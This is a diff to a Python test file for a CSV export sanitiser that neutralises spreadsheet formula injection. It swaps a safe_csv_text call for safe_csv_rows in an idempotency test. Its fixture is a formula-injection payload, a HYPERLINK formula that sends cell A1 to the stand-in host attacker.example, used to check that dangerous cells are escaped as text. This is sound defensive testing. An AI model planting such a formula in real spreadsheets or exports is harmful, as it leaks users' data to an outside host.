@@ -15,7 +15,6 @@ from kcs_core.spreadsheets import (
     as_excel_csv,
     csv_response,
     safe_csv_rows,
-    safe_csv_text,
 )
 
 pytestmark = pytest.mark.django_db
@@ -25,9 +24,9 @@ FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1,"คลิก")'
 
 def test_the_rule_is_idempotent_and_keeps_quoting():
     text = f'ชื่อ,ค่า\r\n"{FORMULA.replace(chr(34), chr(34) * 2)}",-5\r\n'
-    once = safe_csv_text(text)
+    once = "".join(safe_csv_rows([text]))
     assert list(csv.reader(io.StringIO(once))) == [["ชื่อ", "ค่า"], ["'" + FORMULA, "'-5"]]
-    assert safe_csv_text(once) == once
+    assert "".join(safe_csv_rows([once])) == once
 
 
 def test_wagtails_site_history_export_keeps_a_formula_title_as_text(
